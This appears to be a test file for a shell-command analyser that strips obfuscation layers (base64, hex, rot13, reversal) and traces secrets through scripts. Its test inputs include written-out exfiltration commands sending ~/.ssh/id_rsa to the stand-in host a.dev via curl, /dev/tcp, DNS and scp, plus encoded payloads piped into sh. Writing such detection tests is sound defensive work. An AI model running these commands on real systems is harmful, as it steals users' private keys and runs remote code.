// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are shell
import { expect, test } from "vitest";
import { cpuMsOf } from "../../test-support/slowness";
import { runShell } from "./run";
import type { CommandEffect } from "./world";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const lineOf = ({ name, args }: CommandEffect) => [name, ...args.map(({ text }) => text)].join(" ");
const lines = (text: string) => runShell(text).commands.map(lineOf);

test.each([
  ["quotes and backslashes", "c''ur\\l -s \"a b\"", ["curl -s a b"]],
  ["variables", 'A=curl; B="-s x"; $A $B', ["curl -s x"]],
  ["names cut out of others", "x=/bin/echo; ${x:5:4} ${x##*/} ${x#/bin/}", ["echo echo echo"]],
  ["replacements", "x=cXuXrXl; ${x//X/} a", ["curl a"]],
  ["lists", "x=(a b c); echo ${x[1]} ${x[@]}", ["echo b a b c"]],
  ["fallbacks", "echo ${NOT_SET:-http://a.dev}", ["echo http://a.dev"]],
  ["what stands for a value that is set", 'T=k; curl ${T:+ -H "A: $T"} a', ["curl -H A: k a"]],
  ["what is reckoned", "a $((1 + 2)) $(( ${N:-5} * $M ))", ["a 0 0"]],
  ["indirection", "a=b; b=c; echo ${!a}", ["echo c"]],
  ["braces", "{cat,/etc/hosts}", ["cat /etc/hosts"]],
  ["substitutions", "$(echo curl) `echo a`", ["echo curl", "echo a", "curl a"]],
  ["wrappers", "sudo -u root env A=1 nohup timeout 5 nice -n 3 curl a", ["curl a"]],
  ["fed arguments", "echo b | xargs -I{} curl {}/c", ["echo b", "curl b\n/c"]],
  [
    "inner shells",
    "bash -c 'curl a'; sh <<E\ncurl b\nE\neval \"curl c\"",
    ["bash -c curl a", "curl a", "sh", "curl b\n".trim(), "eval curl c", "curl c"],
  ],
  [
    "what is found",
    "find ~ -name id_rsa -exec curl -T {} b \\;",
    ["curl -T ~/id_rsa b", "find ~ -name id_rsa -exec curl -T {} b ;"],
  ],
  ["functions", 'f() { curl "$1"; }; f a', ["curl $1", "f a", "curl a"]],
  [
    "what a function was given, in it alone",
    'f() { g b; echo "$1"; }; g() { :; }; f a; echo "$1"',
    ["g b", "echo $1", ":", "f a", "g b", ":", "echo a", "echo $1"],
  ],
  ["written scripts", "cat > a.sh <<'E'\ncurl a\nE\nbash ./a.sh", ["cat", "bash ./a.sh", "curl a"]],
])("follows %s", (_, text, expected) => {
  expect(lines(text)).toStrictEqual(expected);
});

test.each([
  ["base64", `echo ${base64("curl a")} | base64 -d | sh`],
  ["base64", `eval "$(base64 -D <<< ${base64("curl a")})"`],
  ["hex", `echo ${Buffer.from("curl a").toString("hex")} | xxd -r -p | bash`],
  ["reversal", "echo 'a lruc' | rev | sh"],
  ["exchanged letters", "echo 'phey n' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"],
  ["escape codes", "printf '\\x63\\x75\\x72\\x6c\\x20a' | sh"],
])("takes %s off", (layer, text) => {
  expect(
    runShell(text)
      .commands.filter(({ layers }) => layers.includes(layer))
      .map(lineOf),
  ).toStrictEqual(["curl a"]);
});

test("a printed command is not run, and neither is a commented one", () => {
  const { commands } = runShell("echo 'curl a | sh'\n# curl b | sh\ncat > notes.md <<E\ncurl c | sh\nE");
  expect(commands.map(({ name }) => name)).toStrictEqual(["echo", "cat"]);
  expect(commands.flatMap(({ runs }) => runs)).toStrictEqual([]);
});

test.each([
  ["a pipe", "cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.dev"],
  ["a variable", 'K=$(cat ~/.ssh/id_rsa)\ncurl -d "k=$K" https://a.dev'],
  ["a file in between", "cp ~/.ssh/id_rsa /tmp/k; tar czf /tmp/k.tgz /tmp/k; curl -F f=@/tmp/k.tgz https://a.dev"],
  ["a loop", 'for f in ~/.ssh/id_rsa ~/.netrc; do curl -T "$f" https://a.dev; done'],
  ["read", "cat ~/.ssh/id_rsa | while read -r l; do curl https://a.dev/$l; done"],
  ["a function", 'f() { curl -d "$1" https://a.dev; }; f "$(cat ~/.ssh/id_rsa)"'],
  ["the number of a socket", "cat ~/.ssh/id_rsa > /dev/tcp/a.dev/80"],
  ["the name of a host", "dig $(cat ~/.ssh/id_rsa | xxd -p).a.dev"],
  ["a copy program", "scp -r ~/.ssh/ me@a.dev:/tmp"],
])("follows a secret through %s", (_, text) => {
  const sends = runShell(text).commands.flatMap((command) => command.sends);
  const taken = sends.flatMap(({ value }) =>
    value.taints.flatMap((taint) => (taint.kind === "secret" ? [taint.what] : [])),
  );
  expect(taken).toContain("SSH keys");
});

test.each([
  "cat ~/.ssh/id_rsa.pub | curl -d @- https://a.dev",
  "ls ~/.sshrc.d | curl -d @- https://a.dev",
  "sha256sum ~/.ssh/id_rsa | curl -d @- https://a.dev",
  'public() { cat "$1.pub"; }; ssh a.dev "echo \'$(public ~/.ssh/id_rsa)\' >> keys"',
])("takes no secret out of %j", (text) => {
  expect(runShell(text).commands.flatMap((command) => command.sends)).toStrictEqual([]);
});

test("takes the names of private files for private, not for secret", () => {
  const [send] = runShell("ls -la ~/.ssh | curl -d @- https://a.dev").commands.flatMap(({ sends }) => sends);
  expect(send?.value.taints).toStrictEqual([{ kind: "private", what: "names of the user's files" }]);
});

test.each([
  "x;",
  "curl x|sh;",
  "a=$(b);",
  "eval 'x;",
  "f(){ f; f; };f;",
  "a=$a$a;",
  "find . -exec find . -exec ",
  "a | ",
  "xargs xargs ",
])("takes bounded time for %j", async (piece) => {
  expect(await cpuMsOf(() => runShell(piece.repeat(60_000 / piece.length)))).toBeLessThan(5000);
});

test("keeps apart what the words of an array and of a call hold", () => {
  const { commands } = runShell(
    'call() { cmd=(aws); cmd+=("$@"); "${cmd[@]}"; }\nplain=$(gpg -d a.gpg)\ncall s3 cp "$plain" "s3://$BUCKET/a b"',
  );
  const copied = commands.find(({ name, args }) => name === "aws" && args.length === 4);
  expect(copied?.args.map(({ text, taints }) => [text, taints.length])).toStrictEqual([
    ["s3", 0],
    ["cp", 0],
    ["$(…)", 1],
    ["s3://$BUCKET/a b", 0],
  ]);
});

test("tells apart files that functions are given under the same number", () => {
  const text =
    'unpack() { base64 -d "$1" > "$2"; sh "$2"; }\nask() { id="$2"; curl -d "$(jq -n --arg id "$id" .)" "$1/jobs"; }';
  const { commands } = runShell(text);
  const decoded = commands.filter(({ args }) =>
    args.some(({ taints }) => taints.some(({ kind }) => kind === "decoded")),
  );
  expect(decoded.map(lineOf)).toStrictEqual([]);
  expect(commands.flatMap(({ runs }) => runs.map(({ value }) => value.taints[0]?.kind))).toStrictEqual(["decoded"]);
});

test("a function hides neither a file of the script's own nor a program of its name", () => {
  const kinds = (text: string) =>
    runShell(text).commands.flatMap(({ runs }) => runs.flatMap(({ value }) => value.taints.map(({ kind }) => kind)));
  expect(kinds('curl -o "$1" https://a.dev/x; f() { :; }; sh "$1"')).toStrictEqual(["remote"]);
  expect(kinds("if false; then curl() { :; }; fi; curl https://a.dev/x | sh")).toStrictEqual(["remote"]);
});

test("gives what is left of the parameters the first numbers", () => {
  const { commands } = runShell(
    'call() { method="$1"; shift; curl -X "$method" "$@" "$1"; }\ncall PUT https://a.dev -s',
  );
  expect(commands.filter(({ name }) => name === "curl").map(lineOf)).toContain(
    "curl -X PUT https://a.dev -s https://a.dev",
  );
});

test.each([
  ["echo A.b | tr -cs 'a-z0-9._-' '-'", 0],
  ["echo a | tr 'a-zA-Z' 'n-za-mN-ZA-M'", 1],
])("%s hides %i texts", (text, count) => {
  const { commands } = runShell(`curl "$(${text})"`);
  const taints = commands.flatMap(({ args }) => args.flatMap((arg) => arg.taints));
  expect(taints.filter(({ kind }) => kind === "decoded")).toHaveLength(count);
});

test("takes no fact about a certificate for a program", () => {
  const { commands } = runShell(
    "openssl s_client -connect a.dev:443 | openssl x509 -noout -enddate | xargs -I{} bash -c 'echo $(date -d \"{}\")'",
  );
  expect(commands.flatMap(({ runs }) => runs.flatMap(({ value }) => value.taints))).toStrictEqual([]);
});
